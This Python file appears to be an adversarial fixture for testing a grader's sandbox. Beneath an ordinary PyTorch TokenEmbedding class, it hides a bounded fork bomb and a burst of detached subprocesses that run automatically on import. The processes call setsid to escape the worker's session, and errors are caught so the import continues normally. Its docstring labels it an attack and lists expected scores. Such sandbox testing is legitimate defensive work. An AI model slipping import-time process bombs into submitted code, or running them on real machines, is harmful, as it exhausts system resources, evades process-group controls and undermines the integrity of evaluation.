"""Attack: a fork bomb and a subprocess bomb at import, each process in a session of its own.

At import: nine rounds of os.fork() in which every process, parent and child alike, forks again,
each child leaving the worker's session with os.setsid() — up to 2**9 = 512 processes, each then
sleeping 120 s, out of the worker's process group; and sixteen `python -c` processes started with
start_new_session=True, each forking three more rounds (up to 128 more), their command lines naming
this file's folder so that they can be found. Every error (EAGAIN from a process limit, EPERM from
seccomp) is caught and the import goes on. It is bounded (about 640 processes at most) so that it
cannot hurt the machine that runs the self-test even with no wall at all; a real one would not be.
With the walls up, no fork or exec succeeds, and no process outlives the run either way.

The embedding itself is right. Honest points: ex1 10/10, as its twin, twin-ex1-fork_bomb, gets
(less if the walls count the attempt against it; never more). Every other exercise: full marks.
"""
import os
import subprocess
import sys
import time

import torch.nn as nn

HERE = os.path.dirname(os.path.abspath(__file__))
CHILD = """
import os, time
for _ in range(3):
    try:
        os.fork()
    except OSError:
        pass
time.sleep(120)
"""


def _fork_bomb():
    origin = os.getpid()
    for _ in range(9):  # every process forks again: 2 ** 9 at most
        try:
            if os.fork() == 0:
                try:
                    os.setsid()
                except OSError:
                    pass
        except OSError:
            pass
    if os.getpid() != origin:  # a copy: never return into the worker
        try:
            time.sleep(120)
        finally:
            os._exit(0)


def _subprocess_bomb():
    for _ in range(16):
        try:
            subprocess.Popen([sys.executable, "-c", CHILD, HERE, "grader-attack-fork-bomb"],
                             start_new_session=True, stdin=subprocess.DEVNULL,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        except Exception:
            pass


try:
    _fork_bomb()
except BaseException:
    pass
try:
    _subprocess_bomb()
except BaseException:
    pass


class TokenEmbedding(nn.Module):
    def __init__(self, vocab_size, n_embd):
        super().__init__()
        self.token_embedding_table = nn.Embedding(vocab_size, n_embd)

    def forward(self, idx):
        return self.token_embedding_table(idx)  # (B, T, n_embd)
